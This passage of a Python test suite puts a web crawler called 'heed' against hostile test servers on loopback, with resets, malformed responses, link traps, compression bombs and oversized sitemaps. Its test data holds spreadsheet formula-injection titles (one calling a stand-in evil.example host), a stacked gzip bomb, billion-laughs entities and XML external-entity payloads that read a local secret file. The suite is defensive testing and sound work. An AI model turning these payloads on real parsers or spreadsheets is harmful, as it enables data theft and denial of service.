                                 f"{r.paths(r.other_log)[:5]}")
        stored(r, "/", "Home")
    return check


# --- resets and truncation ---

@scenario(weight=15)
def reset_mid_headers(s):
    """A reset in the middle of the headers: never a record."""
    return bad_page(s, "/cut.html", raw(
        b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Len",
        then="reset"))


@scenario(weight=15)
def reset_mid_body(s):
    """A reset after 1000 of 5000 body bytes: never a record."""
    body = html("Cut", extra="x" * 5000)
    return bad_page(s, "/cut.html", raw(
        head(200, [("Content-Type", HTML), ("Content-Length",
                                            str(len(body)))]) + body[:1000],
        then="reset"))


@scenario(weight=15)
def dead_kept_connection(s):
    """The server reads a request on a kept connection and closes it (FIN
    on one host, RST on another) without an answer: libcurl would send the
    request again at once on a new connection; every try must wait its
    politeness delay (the generic 1 s check), and nothing is stored."""
    def silent(then):
        def h(ex):
            return ex.reset() if then == "reset" else False
        return h
    table = {s.vhost(0): silent("close"), s.vhost(1): silent("reset")}
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links("/x.html", title="Home"),
             "/x.html": by_host(table)})
    s.seeds = [s.vurl(0), s.vurl(1)]

    def check(r):
        for j in range(2):
            tries = [e for e in r.log
                     if e["host"] == s.vhost(j) and e["path"] == "/x.html"]
            r.check(1 <= len(tries) <= 3,
                    f"{s.vhost(j)}/x.html requested {len(tries)} times")
            r.check(len({e["conn"] for e in r.log
                         if e["host"] == s.vhost(j)}) <= len(tries) + 1,
                    f"{s.vhost(j)}: more connections than tries")
        r.check(not any(x["url"].endswith("/x.html") for x in r.records),
                "an answer that never came was stored")
    return check


@scenario(weight=25)
def close_mid_headers_keeps_record(s):
    """Crawl 1 stores a good page; in crawl 2 (`--refresh all`, since the
    page is not due for a revisit yet) the server closes in the middle of
    its headers: the good record stays as it was. A page that always
    closes mid-headers (another host, crawl 1) is never stored."""
    cut = raw(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nX-A: b")
    s.serve({"/robots.txt": robots_allow(),
             "/": by_host({s.host: page_links("/keep.html", title="Home"),
                           s.vhost(0): cut}),
             "/keep.html": seq(page_links(title="Good"), cut)})
    s.crawls = [[[s.url("/"), s.vurl(0)]],
                ["--refresh", "all", [s.url("/")]]]

    def check(r):
        r.check(r.count("/keep.html") >= 2, "crawl 2 did not ask for "
                                            "/keep.html again")
        rec = stored(r, "/keep.html", "Good")
        if rec:
            r.check(rec["status"] == 200, f"status {rec['status']}")
        bad = [x for x in r.records if s.vhost(0) in x["url"]]
        r.check(not bad, f"an answer cut in its headers was stored: "
                         f"{[(x['url'], x['status']) for x in bad]}")
    return check


# --- 5xx storms ---

@scenario(weight=30)
def storm_5xx(s):
    """The home page answers 503 twice, then 200; /a always 500, /b 502,
    no Retry-After: each tried a bounded number of times, the delay
    doubles after each failure."""
    s.serve({"/robots.txt": robots_allow(),
             "/": seq(ok(b"busy", TEXT, status=503),
                      ok(b"busy", TEXT, status=503),
                      page_links("/a", title="Home")),
             "/a": ok(b"oops", TEXT, status=500)})

    def check(r):
        stored(r, "/", "Home")
        not_stored(r, "/a")
        at_most(r, "/a", 3)
        home = r.entries("/")
        if r.check(len(home) == 3, f"/ requested {len(home)} times"):
            gap = home[1]["start"] - home[0]["start"]
            r.check(gap >= 2.0, f"{gap:.2f} s after a 503 (the delay "
                                f"doubles: 2 s)")
    return check


@scenario(weight=10, timeout=60)
def retry_after_3600(s):
    """503 with Retry-After: 3600 on the home page: the run is not held
    hostage (it ends in seconds, crawl.max_wait 10m); neither it nor the
    next run sends the host anything before the hour."""
    s.serve({"/robots.txt": robots_allow(),
             "/": ok(b"later", TEXT, [("Retry-After", "3600")], 503)})
    s.crawls = [[], []]

    def check(r):
        elapsed_under(r, 30)
        at_most(r, "/", 1)
        at_most(r, "/robots.txt", 1)
    return check


@scenario(weight=12)
def retry_after_short_and_odd(s):
    """429 with Retry-After: 3, then 200: obeyed (no request for 3 s);
    hosts answering Retry-After values that overflow or are negative or
    years away end the run in bounded time."""
    s.serve({"/robots.txt": robots_allow(),
             "/": by_host({
                 s.vhost(0): ok(b"x", TEXT, [("Retry-After",
                                              "9" * 40)], 503),
                 s.vhost(1): ok(b"x", TEXT, [("Retry-After", "-5")], 503),
                 s.vhost(2): ok(b"x", TEXT, [(
                     "Retry-After", "Fri, 31 Dec 9999 23:59:59 GMT")], 503),
                 s.host: seq(ok(b"slow down", TEXT,
                                [("Retry-After", "3")], 429),
                             page_links(title="Home")),
             })})
    s.seeds = [s.url("/")] + [s.vurl(j) for j in range(3)]

    def check(r):
        elapsed_under(r, 45)
        stored(r, "/", "Home")
        home = [e for e in r.log if e["host"] == s.host and e["path"] == "/"]
        if len(home) >= 2:
            gap = home[1]["start"] - home[0]["start"]
            r.check(gap >= 3.0, f"{gap:.2f} s after Retry-After: 3")
        for j in range(3):
            n = sum(1 for e in r.log
                    if e["host"] == s.vhost(j) and e["path"] == "/")
            r.check(n <= 3, f"{s.vhost(j)}/ requested {n} times")
    return check


@scenario(args=["--set", "politeness.address_concurrency=2"], weight=15)
def shared_hosting_503(s):
    """Eight sites (host names) on one address, all answering 503 slowly,
    with politeness.address_concurrency=2: judged per host (1 s apart, a
    bounded number of tries) and per address (never more than 2 requests
    in flight, robots.txt included)."""
    def slow503(ex):
        if not ex.wait(0.3):
            return False
        return ex.respond(503, b"busy", TEXT)
    s.serve({"/robots.txt": robots_allow(), "/": slow503})
    s.seeds = [s.vurl(j) for j in range(VHOSTS)]

    def check(r):
        hosts = {e["host"] for e in r.log}
        r.check(len(hosts) == VHOSTS, f"hosts seen: {sorted(hosts)}")
        pages = [e for e in r.log if e["path"] == "/"]
        r.check(pages, "no page was requested")
        peak = in_flight_peak(r.log)
        r.check(peak <= 2, f"{peak} requests in flight to one address "
                           f"(politeness.address_concurrency=2)")
        for h in hosts:
            n = sum(1 for e in pages if e["host"] == h)
            r.check(n <= 3, f"{h}/ requested {n} times")
    return check


# --- headers ---

@scenario(weight=8)
def huge_headers(s):
    """One 1 MiB header; 100,000 small headers; a 300 KiB cookie."""
    many = [(f"X-H{i}", "v") for i in range(100000)]
    s.serve({"/robots.txt": robots_allow(),
             "/": by_host({
                 s.vhost(0): ok(html("Big header"), HTML,
                                [("X-Big", "a" * MIB)]),
                 s.vhost(1): ok(html("Many headers"), HTML, many),
                 s.vhost(2): ok(html("Cookie"), HTML,
                                [("Set-Cookie", "c=" + "b" * 300000)]),
             })})
    s.seeds = [s.vurl(j) for j in range(3)]

    def check(r):
        for j in range(3):
            n = sum(1 for e in r.log
                    if e["host"] == s.vhost(j) and e["path"] == "/")
            r.check(n <= 3, f"{s.vhost(j)}/ requested {n} times")
    return check


@scenario(weight=10)
def huge_location(s):
    """Locations of 1 MiB and of 5000 bytes (over crawl.max_url_bytes):
    never requested."""
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links("/go1", "/go2", title="Home"),
             "/go1": redirect("/" + "a" * MIB),
             "/go2": redirect("/" + "b" * 5000)})

    def check(r):
        stored(r, "/", "Home")
        long = [e["target"][:20] for e in r.log if len(e["target"]) > 2048]
        r.check(not long, f"URLs over 2048 bytes requested: {long}")
    return check


# --- malformed answers ---

MALFORMED = [
    ("HTTP/1.1 2OO OK", "Letters"),
    ("HTTP/1.1 99999999999999999999 X", "Overflow"),
    ("HTTP/1.1 -200 OK", "Negative"),
    ("ICY 200 OK", "Icy"),
    ("HTTP/1.1 200 OK\r\nContent-Type text/html", "Colonless"),
    ("HTTP/1.1 200 OK\r\n Folded: x", "Folded"),
]


@scenario(weight=20)
def malformed_status(s):
    """Status lines that are not HTTP (letters, 20 digits, negative, ICY)
    and broken header lines, one site each on one address: no record
    with an impossible status, no crash."""
    table = {}
    for j, (line, title) in enumerate(MALFORMED):
        table[s.vhost(j)] = raw(line.encode() + b"\r\nContent-Type: "
                                b"text/html\r\n\r\n" + html(title))
    s.serve({"/robots.txt": robots_allow(), "/": by_host(table)})
    s.seeds = [s.vurl(j) for j in range(len(MALFORMED))]

    def check(r):
        for rec in r.records:
            r.check(100 <= rec["status"] <= 599,
                    f"{rec['url']} stored with status {rec['status']}")
        d = r.dump()
        for t in ("Letters", "Overflow", "Negative"):
            r.check(t not in d, f"the answer titled {t} was stored")
    return check


GARBAGE = [
    (b"<html><head><title>Nine</title></head></html>\n", "Nine"),
    (bytes(range(256)) * 64, None),
    (b"", None),
    (b"\r\n\r\n\r\n", None),
    (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 500, None),
    (b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n" + b"\x00" * 1000,
     None),
    (b"HTTP/1.1 200 OK\r\n" + b"\x00" * 1000 + b"\r\nX-Nul: a\x00b\r\n\r\n"
     + html("Nulheader"), None),
]


@scenario(weight=20)
def http09_and_garbage(s):
    """An HTTP/0.9 answer (a body without a status line), random bytes,
    nothing, blank lines, a TLS record, NULs: never a record."""
    table = {s.vhost(j): raw(data) for j, (data, _) in enumerate(GARBAGE)}
    s.serve({"/robots.txt": robots_allow(), "/": by_host(table)})
    s.seeds = [s.vurl(j) for j in range(len(GARBAGE))]

    def check(r):
        r.check(not r.records, f"stored: {[x['url'] for x in r.records]}")
    return check


# --- content types ---

@scenario(weight=8)
def media_served_as_html(s):
    """HTML links to pages served as video/mp4 and as octet-stream, 20 MB
    each: aborted after the headers, the body never read."""
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links("/watch.html", "/blob", title="Home"),
             "/watch.html": stream(200, [("Content-Type", "video/mp4"),
                                         ("Content-Length", str(20 * MIB))],
                                   repeat(b"\x00\x00\x00\x18ftypmp42",
                                          20 * MIB), sndbuf=16384),
             "/blob": stream(200, [("Content-Type",
                                    "application/octet-stream")],
                             repeat(b"\xff" * 64, 20 * MIB), chunked=True,
                             sndbuf=16384)})

    def check(r):
        for p in ("/watch.html", "/blob"):
            at_most(r, p, 1)
            n = sent(r, p)
            r.check(n < MIB, f"{p}: {n} bytes of media sent (the body "
                             f"must not be read)")
            not_stored(r, p)
    return check


@scenario(weight=8)
def html_served_as_media(s):
    """HTML behind media names (.jpg, .pdf, .woff2, .MP4) and behind media
    elements: never requested."""
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links("/photo.jpg", "/doc.pdf", "/f.woff2",
                             "/CLIP.MP4?x=1", "/a.html", title="Home",
                             extra='<img src="/only-img.html">'
                                   '<video><source src="/only-video.html">'
                                   '</video><embed src="/only-embed.html">'
                                   '<audio src="/only-audio.html"></audio>'),
             "/a.html": page_links(title="Page A")},
            default=page_links(title="A page"))

    def check(r):
        stored(r, "/a.html", "Page A")
        for p in ("/only-img.html", "/only-video.html", "/only-embed.html",
                  "/only-audio.html"):
            at_most(r, p, 0)
    return check


# --- big and deep pages ---

@scenario(args=["--set", "crawl.max_pages=4"], weight=15)
def links_100k(s):
    """A page with 100,000 links: memory bounded, the run bounded by
    crawl.max_pages."""
    links = "".join(f'<a href="/l/{i}.html">{i}</a>\n'
                    for i in range(100000))
    s.serve({"/robots.txt": robots_allow(),
             "/": ok(html("Many links", extra=links))},
            default=page_links(title="Leaf"))

    def check(r):
        stored(r, "/", "Many links")
        leaves = sum(1 for e in r.log if e["path"].startswith("/l/"))
        r.check(leaves <= 4, f"{leaves} leaves fetched (max_pages 4)")
    return check


@scenario(weight=15)
def nesting_20mb(s):
    """20 MB of nested elements (over the 5 MiB cap), and 4.5 MB of them
    (under it, parsed whole): memory bounded, the small one stored."""
    deep = b"<div><span><b>" * (4_500_000 // 14)
    big = b"<div>" * (20 * 1000 * 1000 // 5)
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links("/deep.html", "/huge.html", title="Home"),
             "/deep.html": ok(b"<html><head><title>Deep</title></head>"
                              b"<body>" + deep),
             "/huge.html": ok(b"<html><head><title>Huge</title></head>"
                              b"<body>" + big)})

    def check(r):
        stored(r, "/deep.html", "Deep")
        at_most(r, "/huge.html", 1)
    return check


@scenario(weight=12)
def encodings(s):
    """Invalid UTF-8 (overlong, lone continuation, 0xFF), UTF-16 without
    BOM, NUL in a title, a charset that does not exist: stored, exports
    parse back."""
    utf16 = ("<html><head><title>Sixteen</title></head><body>"
             "<p>x</p></body></html>").encode("utf-16-le")
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links("/bad.html", "/u16.html", "/nul.html",
                             "/nochar.html", title="Home"),
             "/bad.html": ok(b"<html><head><meta charset=utf-8><title>Bad"
                             b"\xc0\x80\xff\xfe\x80 utf8 \xed\xa0\x80"
                             b"</title></head></html>"),
             "/u16.html": ok(utf16, "text/html"),
             "/nul.html": ok(b"<html><head><title>Nul\x00in\x00title"
                             b"</title></head></html>"),
             "/nochar.html": ok(b"<html><head><meta charset=x-no-such>"
                                b"<title>No \xe9 charset</title></head>"
                                b"</html>", "text/html; charset=x-nope")})

    def check(r):
        for p in ("/bad.html", "/u16.html", "/nul.html", "/nochar.html"):
            at_most(r, p, 1)
        rec = stored(r, "/nul.html")
        if rec:
            t = rec.get("title") or ""
            r.check(t.startswith("Nul") and "\x00" not in t,
                    f"/nul.html: title {t!r} (a NUL kept, or lost)")
        rec = stored(r, "/bad.html")
        if rec:
            t = rec.get("title") or ""
            r.check(t.startswith("Bad") and "utf8" in t,
                    f"/bad.html: title {t!r}")
        stored(r, "/u16.html")
        stored(r, "/nochar.html")
    return check


@scenario(weight=12)
def csv_json_hostile_titles(s):
    """Titles a spreadsheet would run (=HYPERLINK, +cmd, -, @), with quotes,
    commas, newlines, a TAB and a NUL: JSON Lines keeps them, CSV defuses
    the formulas, both parse back row for row."""
    titles = ['=HYPERLINK("http://evil.example/?x","click")',
              "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
              "@SUM(1+1)*cmd|' /C calc'!A0",
              'He said "hi", then, left',
              "line one\nline two\r\nthree"]
    pages = {f"/t{i}.html": ok(
        ("<html><head><title>" + t.replace("&", "&amp;").replace(
            "<", "&lt;") + "</title></head><body></body></html>").encode())
        for i, t in enumerate(titles)}
    pages["/tab.html"] = ok(b"<html><head><title>&#9;=1+1</title></head>"
                            b"</html>")
    pages["/nul.html"] = ok(b"<html><head><title>=cmd\x00|calc&#0;x</title>"
                            b"</head></html>")
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links(*pages, title="Home"), **pages})

    def check(r):
        n = 0
        for i, t in enumerate(titles):
            rec = r.record(f"/t{i}.html")
            if not r.check(rec is not None, f"/t{i}.html not stored"):
                continue
            n += 1
            got = rec.get("title") or ""
            want = " ".join(t.split()) if "\n" in t else t
            r.check(got in (t, want), f"/t{i}.html: title {got!r}")
        r.check(n == len(titles), "not every hostile title was stored")
        rec = stored(r, "/nul.html")
        if rec:
            t = rec.get("title") or ""
            r.check(t.startswith("=cmd") and "\x00" not in t,
                    f"/nul.html: title {t!r} (a NUL kept, or lost)")
        # generic_checks compared the CSV cells with the JSON values.
    return check


# --- link traps ---

@scenario(weight=60, timeout=120)
def trap_calendar(s):
    """A calendar with "previous" and "next month" links forever: bounded
    by crawl.max_depth (20)."""
    def month(ex):
        n = int(ex.req.query.split("=")[1]) if "=" in ex.req.query else 0
        return ok(html(f"Month {n}", [f"/cal?m={n - 1}",
                                      f"/cal?m={n + 1}"]))(ex)
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links("/cal?m=0", title="Home"), "/cal": month})

    def check(r):
        n = r.count("/cal")
        r.check(n <= 45, f"{n} calendar pages fetched (max_depth 20)")
    return check


@scenario(weight=30, timeout=90)
def trap_session_ids(s):
    """Every page links to itself under a new session id (in the query and
    in a ;jsessionid parameter): bounded by crawl.max_depth (20)."""
    def page(ex):
        n = int(ex.req.target.rsplit("=", 1)[-1], 16) + 1 \
            if "=" in ex.req.target else 1
        link = f"/s?sid={n:08x}" if n % 2 else f"/s;jsessionid={n:08x}"
        return ok(html("Session", [link]))(ex)
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links("/s?sid=0", title="Home"), "/s*": page})

    def check(r):
        n = sum(1 for e in r.log if e["path"].startswith("/s"))
        r.check(n <= 21, f"{n} session-id pages fetched (max_depth 20)")
    return check


@scenario(weight=60, timeout=60)
def trap_session_fanout(s):
    """The classic session-id trap: every answer hands out a new session
    id, and every link of every page carries it (home, about, contact), so
    no URL is ever seen twice: heed must recognise the trap, not crawl it
    until crawl.max_pages (10,000 requests, hours at one a second)."""
    counter = [0]
    lock = threading.Lock()

    def page(ex):
        with lock:
            counter[0] += 1
            sid = f"{counter[0]:08x}"
        links = [f"{p}?PHPSESSID={sid}" for p in ("/", "/about", "/contact")]
        return ok(html("Session", links))(ex)
    s.serve({"/robots.txt": robots_allow(), "/": page, "/about": page,
             "/contact": page})

    def check(r):
        n = sum(1 for e in r.log if e["path"] != "/robots.txt")
        r.check(n <= 45, f"{n} pages of a session-id trap fetched")
    return check


@scenario(weight=30, timeout=90)
def trap_deeper_paths(s):
    """Relative links that make ever-deeper paths: /d/ links to x/
    (repeating a segment: crawl.max_path_repeat) and /e/ to a new segment
    each time (crawl.max_depth)."""
    def deeper(ex):
        return ok(html("Deeper", ["x/"]))(ex)

    def newer(ex):
        n = ex.req.path.count("/")
        return ok(html("Newer", [f"n{n}/"]))(ex)
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links("/d/", "/e/", title="Home"), "/d/*": deeper,
             "/e/*": newer})

    def check(r):
        d = sum(1 for e in r.log if e["path"].startswith("/d/"))
        r.check(d <= 5, f"{d} pages of /d/x/x/... fetched "
                        f"(crawl.max_path_repeat 3)")
        n = sum(1 for e in r.log if e["path"].startswith("/e/"))
        r.check(n <= 21, f"{n} pages of /e/n2/n3/... fetched (max_depth 20)")
    return check


@scenario(weight=30, timeout=90)
def sitemap_index_chain(s):
    """Each sitemap index lists a new one, forever: a bounded number of
    sitemaps is fetched."""
    def index(ex):
        n = int(ex.req.path.rsplit("/", 1)[1].split(".")[0])
        return ok(('<?xml version="1.0"?><sitemapindex xmlns="http://www.'
                   'sitemaps.org/schemas/sitemap/0.9"><sitemap><loc>' +
                   s.url(f"/sm/{n + 1}.xml") +
                   "</loc></sitemap></sitemapindex>").encode(), XML)(ex)
    s.serve({"/robots.txt": robots_allow(f"Sitemap: {s.url('/sm/0.xml')}\n"),
             "/": page_links(title="Home"), "/sm/*": index})

    def check(r):
        n = sum(1 for e in r.log if e["path"].startswith("/sm/"))
        r.check(1 <= n <= 21, f"{n} sitemap indexes of an endless chain "
                              f"fetched")
    return check


@scenario(weight=10, timeout=60)
def robots_retry_after_3600(s):
    """robots.txt answers 503 with Retry-After: 3600: the run ends in
    seconds, no page is requested, nothing is asked again before the
    hour."""
    s.serve({"/robots.txt": ok(b"later", TEXT, [("Retry-After", "3600")],
                               503),
             "/": page_links(title="Home")})
    s.crawls = [[], []]

    def check(r):
        elapsed_under(r, 30)
        at_most(r, "/robots.txt", 1)
        extra = [p for p in r.paths() if p != "/robots.txt"]
        r.check(not extra, f"requested without a robots.txt: {extra}")
    return check


@scenario(weight=15)
def content_encoding_lies(s):
    """Content-Encoding that lies (gzip over plain text, br over gzip, an
    unknown coding) and a stacked "gzip, gzip" bomb (1 GiB in about 1 KB):
    no record of the liars, memory bounded."""
    inner = gzip_bomb(b"<html><head><title>Double</title></head><body>",
                      b" ", 1024)
    outer = zlib.compressobj(9, zlib.DEFLATED, 31)
    double = outer.compress(inner) + outer.flush()
    liar = html("Liar")
    liars = {  # one host each: a host's delay doubles after each failure
        s.vhost(0): ok(liar, HTML, [("Content-Encoding", "gzip")]),
        s.vhost(1): ok(gzip_bomb(b"<title>Liar</title>", b" ", 1), HTML,
                       [("Content-Encoding", "br")]),
        s.vhost(2): ok(b"\x28\xb5\x2f\xfd" + liar, HTML,
                       [("Content-Encoding", "x-hostile")]),
        s.host: page_links("/double.html", title="Home")}
    s.serve({"/robots.txt": robots_allow(), "/": by_host(liars),
             "/double.html": ok(double, HTML,
                                [("Content-Encoding", "gzip, gzip")])})
    s.seeds = [s.url("/")] + [s.vurl(j) for j in range(3)]

    def check(r):
        stored(r, "/", "Home")
        for j in range(3):
            n = sum(1 for e in r.log
                    if e["host"] == s.vhost(j) and e["path"] == "/")
            r.check(1 <= n <= 3, f"{s.vhost(j)}/ requested {n} times")
        r.check("Liar" not in r.dump(), "a lying answer was stored")
        at_most(r, "/double.html", 3)
        r.check(len(double) < 100 * 1024, f"the double bomb is "
                                          f"{len(double)} bytes")
    return check


# --- hostile robots.txt ---

@scenario(weight=10)
def robots_5mb(s):
    """A 5 MB robots.txt: read up to 500 KiB, the run goes on."""
    s.serve({"/robots.txt": stream(200, [("Content-Type", TEXT)],
                                   repeat(b"Allow: /some/path/here\n",
                                          5 * 1000 * 1000), sndbuf=16384),
             "/": page_links(title="Home")})

    def check(r):
        at_most(r, "/robots.txt", 3)
        n = sent(r, "/robots.txt")
        r.check(n < MIB, f"{n} bytes of robots.txt read (limit "
                             f"500 KiB)")
    return check


@scenario(weight=10)
def robots_redirect_to_html(s):
    """robots.txt redirects to an HTML page: read as robots.txt or not,
    the run ends and nothing is requested twice."""
    s.serve({"/robots.txt": redirect("/welcome.html", 301),
             "/welcome.html": ok(html("Welcome", ["/a.html"],
                                      "<p>Disallow: /</p>")),
             "/": page_links("/a.html", title="Home"),
             "/a.html": page_links(title="Page A")})

    def check(r):
        at_most(r, "/robots.txt", 3)
        at_most(r, "/", 1)
        at_most(r, "/a.html", 1)
    return check


@scenario(weight=8)
def robots_crawl_delay_86400(s):
    """Crawl-delay: 86400 (over the 30 s cap): the site is skipped and
    reported, the run ends at once."""
    s.serve({"/robots.txt": robots_allow("Crawl-delay: 86400\n"),
             "/": page_links("/a.html", title="Home")})

    def check(r):
        elapsed_under(r, 20)
        extra = [p for p in r.paths() if p != "/robots.txt"]
        r.check(not extra, f"requested after Crawl-delay 86400: {extra}")
    return check


@scenario(weight=40, timeout=90)
def robots_slow_drip(s):
    """robots.txt dripped a byte every 0.3 s: timed out; a site whose
    robots.txt could not be read gets no page request."""
    s.serve({"/robots.txt": lambda ex: ex.send(head(200, [
        ("Content-Type", TEXT), ("Content-Length", "3000")])) and ex.drip(
            b"User-agent: *\nAllow: /\n" + b"#" * 2977, 0.3) and False,
        "/": page_links(title="Home")})

    def check(r):
        extra = [p for p in r.paths() if p != "/robots.txt"]
        r.check(not extra, f"requested without a robots.txt: {extra}")
    return check


# --- hostile sitemaps ---

@scenario(weight=12)
def sitemap_self_index(s):
    """A sitemap index that lists itself and a second index that lists
    the first: each fetched a bounded number of times."""
    def index(*locs):
        body = "".join(f"<sitemap><loc>{u}</loc></sitemap>" for u in locs)
        return ok(('<?xml version="1.0"?><sitemapindex xmlns="http://www.'
                   'sitemaps.org/schemas/sitemap/0.9">' + body +
                   "</sitemapindex>").encode(), XML)
    s.serve({"/robots.txt": robots_sitemap(s),
             "/": page_links(title="Home"),
             "/sitemap.xml": index(s.url("/sitemap.xml"),
                                   s.url("/sitemap2.xml")),
             "/sitemap2.xml": index(s.url("/sitemap.xml"),
                                    s.url("/sitemap2.xml"))})

    def check(r):
        at_most(r, "/sitemap.xml", 1)
        at_most(r, "/sitemap2.xml", 1)
    return check


@scenario(weight=10)
def sitemap_100mb(s):
    """A 100 MB sitemap: read up to heed's cap (10 MiB), the run bounded."""
    entry = f"<url><loc>{s.url('/p/x.html')}</loc></url>\n".encode()

    def gen():
        yield urlset()[:-len("</urlset>\n")]
        yield from repeat(entry, 100 * 1000 * 1000)()
    s.serve({"/robots.txt": robots_sitemap(s, "Disallow: /p/\n"),
             "/": page_links(title="Home"),
             "/sitemap.xml": stream(200, [("Content-Type", XML)], gen,
                                    sndbuf=16384)})

    def check(r):
        at_most(r, "/sitemap.xml", 1)
        n = sent(r, "/sitemap.xml")
        r.check(n < 7 * MIB, f"{n} bytes of a 100 MB sitemap read "
                            f"(net.max_body_bytes 5 MiB)")
    return check


@scenario(weight=10)
def sitemap_billion_laughs(s):
    """Entities that expand to 10^9 "lol"s (and a quadratic blow-up):
    no expansion, memory bounded."""
    lol = ['<!ENTITY lol "lol">']
    for i in range(1, 10):
        prev = "lol" if i == 1 else f"lol{i - 1}"
        lol.append(f'<!ENTITY lol{i} "' + f"&{prev};" * 10 + '">')
    doc = ('<?xml version="1.0"?>\n<!DOCTYPE urlset [' + "".join(lol) +
           f'<!ENTITY big "{"q" * 100000}">]>\n'
           '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
           f"<url><loc>{s.url('/')}&lol9;</loc></url>"
           f"<url><loc>{s.url('/')}{'&big;' * 100000}</loc></url>"
           "</urlset>\n").encode()
    s.serve({"/robots.txt": robots_sitemap(s),
             "/": page_links(title="Home"), "/sitemap.xml": ok(doc, XML)})

    def check(r):
        r.check("lollollol" not in r.dump(), "an entity was expanded")
        r.check(not any("lollol" in e["target"] for e in r.log),
                "an entity was expanded into a request")
    return check


@scenario(weight=10)
def sitemap_external_entities(s):
    """External entities naming a local file (file:, a path, a parameter
    entity, an external DTD on another site): the file's content never
    reaches the store nor a request; the other site is never asked."""
    secret_file = os.path.join(s.tmp, "secret.txt")
    s.secret = "HEED-SECRET-" + os.urandom(8).hex()
    with open(secret_file, "w") as f:
        f.write(s.secret)
    doc = ('<?xml version="1.0"?>\n<!DOCTYPE urlset [\n'
           f'<!ENTITY xfile SYSTEM "file://{secret_file}">\n'
           f'<!ENTITY xpath SYSTEM "{secret_file}">\n'
           f'<!ENTITY % xdtd SYSTEM "{s.other_url("/evil.dtd")}">%xdtd;\n'
           ']>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
           f"<url><loc>{s.url('/e/')}&xfile;</loc></url>"
           f"<url><loc>{s.url('/f/')}&xpath;</loc></url>"
           f"<url><loc>{s.url('/g.html')}</loc><lastmod>&xfile;</lastmod>"
           "</url></urlset>\n").encode()
    s.serve({"/robots.txt": robots_sitemap(s),
             "/": page_links(title="Home"), "/sitemap.xml": ok(doc, XML)},
            default=page_links(title="Entry"))
    s.serve_other({"/evil.dtd": ok(f'<!ENTITY xo SYSTEM "file://'
                                   f'{secret_file}">'.encode(), XML)})

    def check(r):
        r.check(not r.other_log, "the external DTD was fetched")
    return check


@scenario(args=["--incremental"], weight=10)
def sitemap_xxe_incremental(s):
    """The same entities read by an incremental crawl, which lives on
    sitemaps: the local file's content never reaches the store."""
    secret_file = os.path.join(s.tmp, "secret.txt")
    s.secret = "HEED-SECRET-" + os.urandom(8).hex()
    with open(secret_file, "w") as f:
        f.write(s.secret)
    doc = ('<?xml version="1.0"?>\n<!DOCTYPE urlset [\n'
           f'<!ENTITY xfile SYSTEM "file://{secret_file}">]>\n'
           '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
           f"<url><loc>{s.url('/e/')}&xfile;</loc></url>"
           f"<url><loc>{s.url('/g.html')}</loc><lastmod>&xfile;</lastmod>"
           "</url></urlset>\n").encode()
    s.serve({"/robots.txt": robots_sitemap(s),
             "/": page_links(title="Home"), "/sitemap.xml": ok(doc, XML)},
            default=page_links(title="Entry"))
    return None


# ----- main ----------------------------------------------------------------

def main():
    global DNS, LAUNCH
    LAUNCH = Launcher()  # first, while this test is small
    chosen = [sc for sc in SCENARIOS if not ONLY or sc["name"] in ONLY]
    hosts = {}
    for i in range(len(SCENARIOS)):
        hosts[f"s{i:02d}.{DOMAIN}"] = [f"127.0.0.{100 + i}"]
        hosts[f"o{i:02d}.{DOMAIN}"] = [f"127.0.1.{100 + i}"]
        for j in range(VHOSTS):
            hosts[f"v{j}.s{i:02d}.{DOMAIN}"] = [f"127.0.0.{100 + i}"]
    index = {sc["name"]: i for i, sc in enumerate(SCENARIOS)}
    results = {}
    t0 = time.monotonic()
    print(f"heed: {HEED}; {len(chosen)} scenarios, {JOBS} at a time",
          flush=True)
    with Dnsmasq(hosts=hosts, local=DOMAIN) as DNS:
        order = sorted(chosen, key=lambda sc: -sc["weight"])
        with ThreadPoolExecutor(JOBS) as pool:
            futs = {sc["name"]: pool.submit(run_scenario, index[sc["name"]],
                                            sc) for sc in order}
            for sc in order:
                res, skip = futs[sc["name"]].result()
                results[sc["name"]] = (res, skip)
                print(f"  done {sc['name']}: {res.summary_line()} "
                      f"({time.monotonic() - t0:.0f} s)", flush=True)
    print(f"all scenarios: {time.monotonic() - t0:.0f} s wall", flush=True)

    def make(name):
        def fn():
            res, skip = results[name]
            if skip:
                print(f"skip {name}: {skip}")
                return
            if name in KNOWN_BUGS:
                if not res.failures:
                    raise AssertionError(
                        f"listed in KNOWN_BUGS ({KNOWN_BUGS[name]}) but "
                        f"passed: take it off the list")
                print(f"known bug {name}: {KNOWN_BUGS[name]}\n    [" +
                      res.summary_line() + "]\n    - " +
                      "\n    - ".join(res.failures), flush=True)
                return "known bug"
            if res.failures:
                raise AssertionError(
                    f"[{res.summary_line()}]\n    - " +
                    "\n    - ".join(res.failures))
        fn.__name__ = name
        return fn
    for name, (res, _) in results.items():
        if not res.failures and not KEEP:
            shutil.rmtree(res.site.tmp, ignore_errors=True)
    LAUNCH.close()
    checks = KnownBugChecks()
    checks.main([make(sc["name"]) for sc in chosen])


class KnownBugChecks(Checks):
    """Checks that count a check returning "known bug" apart: neither
    passed nor failed."""

    def __init__(self):
        super().__init__()
        self.known = 0

    def run(self, fn):
        try:
            verdict = fn()
        except Exception as e:  # report and go on to the next check
            self.failed += 1
            print(f"FAIL {fn.__name__}: {type(e).__name__}: {e}", flush=True)
            return
        if verdict == "known bug":
            self.known += 1
            return
        self.passed += 1
        print(f"ok   {fn.__name__}", flush=True)

    def main(self, fns):
        for fn in fns:
            self.run(fn)
        print(f"{self.passed} passed, {self.failed} failed, "
              f"{self.known} known bugs (KNOWN_BUGS)")
        sys.exit(1 if self.failed else 0)


DNS = None
LAUNCH = None
